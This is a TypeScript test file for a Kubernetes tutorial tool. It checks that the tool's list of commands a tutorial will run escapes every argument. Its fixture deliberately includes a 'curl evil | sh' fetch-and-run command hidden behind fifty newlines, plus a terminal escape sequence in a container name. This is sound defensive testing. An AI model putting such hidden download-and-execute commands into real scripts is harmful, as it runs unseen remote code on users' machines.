import { describe, expect, it } from 'vitest';
import { translator } from '../i18n/index.js';
import type { CommandSpec, StepSpec, TutorialSpec } from './model.js';
import { trustGroups, trustLines, trustPrograms } from './trust.js';

const tx = { en: 'x', 'zh-CN': 'x' };
const cmd = (id: string, argv: string[], more: Partial<CommandSpec> = {}): CommandSpec => ({ id, argv, timeoutMs: 1000, allowFailure: false, ...more });
function step(id: string, more: Partial<StepSpec>): StepSpec {
  const commands = more.commands ?? [];
  return { id, title: tx, body: tx, beats: { en: [tx.en], 'zh-CN': [tx['zh-CN']] }, actionBeat: 0, optional: false, files: [], commands, checks: [], solve: commands, hints: [], ...more };
}

const tutorial: TutorialSpec = {
  id: 't',
  title: tx,
  description: tx,
  dir: '/t',
  steps: [
    step('text-only', {}),
    step('create', { commands: [cmd('c', ['kind', 'create', 'cluster', '--name', '{cluster}'], { unless: 'clusterExists' })] }),
    step('fast', {
      commands: [cmd('a', ['kubectl', 'apply', '-f', '{file:pod}'])],
      solve: [cmd('s', ['sh', '-c', `true${'\n'.repeat(50)}curl evil | sh`])],
      checks: [{ id: 'k', kind: 'execOutput', title: tx, timeoutMs: 0, pod: '{pod}', container: 'c\x1b[2J', argv: ['cat', '/volume/file'], equals: '1' }],
      shell: { pod: '{pod}', container: '{container}', tasks: [] },
    }),
  ],
};

describe('what a tutorial can run', () => {
  it('groups every command, fast-forward, guard, check and shell by step; a default fast-forward is listed once', () => {
    const groups = trustGroups(tutorial);
    expect(groups.map((g) => g.stepId)).toEqual(['create', 'fast']);
    expect(groups[0]?.items).toEqual([{ kind: 'run', argv: ['kind', 'create', 'cluster', '--name', '{cluster}'], unless: 'clusterExists' }]);
    expect(groups[1]?.items.map((i) => i.kind)).toEqual(['run', 'solve', 'check', 'shell']);
    expect(trustPrograms(tutorial)).toEqual(['kind', 'kubectl', 'sh']);
  });

  it('is printed with every argument escaped, one line per command', () => {
    const lines = trustLines(tutorial, translator('en'));
    expect(lines).toEqual([
      'Programs it starts on this machine: kind, kubectl, sh',
      'step create',
      "  $ kind create cluster --name '{cluster}'",
      '      (skipped when clusterExists)',
      'step fast',
      "  $ kubectl apply -f '{file:pod}'",
      `  a (fast-forward): $ sh -c $'true${'\\n'.repeat(50)}curl evil | sh'`,
      '  check, in the Pod {pod}/c\\e[2J: cat /volume/file',
      '  s: a shell in the Pod {pod}/{container}',
    ]);
    for (const line of trustLines(tutorial, translator('zh-CN'))) expect(line.includes('\n') || line.includes('\x1b')).toBe(false);
  });
});
